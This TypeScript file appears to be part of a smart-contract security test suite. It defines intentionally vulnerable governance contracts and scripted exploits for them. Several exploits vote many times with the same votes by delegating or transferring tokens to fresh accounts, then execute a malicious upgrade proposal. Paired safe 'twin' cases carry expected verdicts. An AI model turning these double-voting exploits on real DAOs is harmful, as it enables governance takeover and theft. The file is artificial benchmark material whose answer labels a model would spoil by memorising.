/** Governors whose votes are not those of one time. */
import type { Hex } from 'viem'
import type { PrivateKeyAccount } from 'viem/accounts'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK } from '../case.ts'
import type { Built } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { proposal, TENTH, TIMES, tokenFor, voted } from './lists.ts'
import { part } from './lying-getters.ts'
import { voteAfter } from './walks.ts'

const votedBy = (token: string, governor = 'HonestBallots'): Case['build'] => voted(governor, tokenFor(token))

/** A council gives a tenth of the votes to an account of the attacker. */
const votedByMembers = (members: string): Case['build'] =>
  voted('PresentBallots', async (chain) => {
    const council = await chain.council()
    const token = await chain.deploy(members, council)
    await chain.send(token, 'setVotes(address,uint256)', [chain.hidden().address, TENTH], council)
    return token
  })

/** Votes several times with the same votes: `turn` moves them on. */
const voteOften =
  (
    turn: (attack: Attack, token: Hex, cast: (as: PrivateKeyAccount) => Promise<void>) => Promise<void>,
    vote = 'vote(bytes32,bool)',
  ) =>
  async (attack: Attack, built: Built): Promise<void> => {
    const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
    const data = upgradeCall(built.address, attack.code)
    const cast = (as: PrivateKeyAccount): Promise<void> =>
      attack.send(controller, vote, [proposal(target, data), true], { as })
    await attack.send(controller, 'propose(address,bytes)', [target, data])
    await attack.mine(2)
    await turn(attack, part(built, 'token'), cast)
    await attack.wait(700_000)
    await attack.send(controller, 'execute(address,bytes)', [target, data])
  }
const delegateOften = async (
  attack: Attack,
  token: Hex,
  cast: (as: PrivateKeyAccount) => Promise<void>,
): Promise<void> => {
  for (let n = 0; n < TIMES; n += 1) {
    const voter = attack.newAccount()
    await attack.send(token, 'delegate(address)', [voter.address])
    await attack.mine(2)
    await cast(voter)
  }
}
const byDelegates = voteOften(delegateOften)
const byTransfers = voteOften(async (attack, token, cast) => {
  let holder = attack.account
  for (let n = 0; n < TIMES; n += 1) {
    await cast(holder)
    const next = attack.newAccount()
    await attack.send(token, 'transfer(address,uint96)', [next.address, TENTH], { as: holder })
    holder = next
  }
})

const drafts: readonly (Omit<Case, 'truth' | 'by' | 'cause'> & Partial<Pick<Case, 'by'>>)[] = [
  {
    name: 'a token answers with the votes of now when it is asked about a past time',
    build: votedBy('PresentVotes'),
    exploit: byDelegates,
  },
  {
    name: 'a token answers with the balance of now when it is asked about a past time',
    build: votedBy('PresentBalance'),
    exploit: byTransfers,
  },
  {
    name: 'a token answers with the votes of the last block when it is asked about a past time',
    build: votedBy('RecentVotes'),
    exploit: byDelegates,
  },
  {
    name: 'a governor asks for the votes of the last block',
    build: votedBy('CheckpointToken', 'LateBallots'),
    exploit: byDelegates,
  },
  {
    name: 'a governor asks for the votes that an account has now',
    build: votedBy('CheckpointToken', 'PresentBallots'),
    exploit: byDelegates,
  },
  {
    name: 'a governor asks for the tokens that an account has now',
    build: votedBy('CheckpointToken', 'BalanceBallots'),
    exploit: byTransfers,
  },
  {
    name: 'one of two functions of a governor asks for the votes that an account has now',
    build: votedBy('CheckpointToken', 'SometimesPresentBallots'),
    exploit: voteOften(delegateOften, 'voteNow(bytes32,bool)'),
  },
  {
    name: 'a governor asks for the votes that a member has now, who may give them to another account',
    build: votedByMembers('LeavingMembers'),
    exploit: voteOften(async (attack, token, cast) => {
      let member = attack.account
      for (let n = 0; n < TIMES; n += 1) {
        await cast(member)
        const next = attack.newAccount()
        await attack.send(token, 'leave(address)', [next.address], { as: member })
        member = next
      }
    }),
  },
  {
    name: 'a token answers with the votes of one account for all of them',
    by: 'anyone',
    build: voted('HonestBallots', async (chain) => {
      const council = await chain.council()
      const token = await chain.deploy('SharedVotes', council)
      await chain.send(token, 'delegate(address)', [council], council)
      return token
    }),
    exploit: voteAfter(async () => {}),
  },
  {
    name: 'a proxy gives its callers votes of the token behind it',
    by: 'anyone',
    build: voted('HonestBallots', async (chain) => chain.deploy('GivingProxy', await chain.deploy('KeyToken'))),
    exploit: voteAfter((attack, token) => attack.send(token, 'take()')),
  },
]

export const pastVotes: readonly Case[] = drafts.map((draft) => ({
  by: 'one key',
  truth: WEAK,
  cause: 'lying getter',
  ...draft,
}))

export const pastVoteTwins: readonly Twin[] = [
  {
    name: 'a vote that counts as of the block of the proposal',
    cause: 'lying getter',
    twinOf: 'a governor asks for the votes that an account has now',
    deserves: 'multisig',
    build: votedBy('CheckpointToken'),
  },
  {
    name: 'a vote of members, whom a council names',
    cause: 'lying getter',
    twinOf: 'a governor asks for the votes that a member has now, who may give them to another account',
    deserves: 'multisig',
    build: votedByMembers('Members'),
  },
]
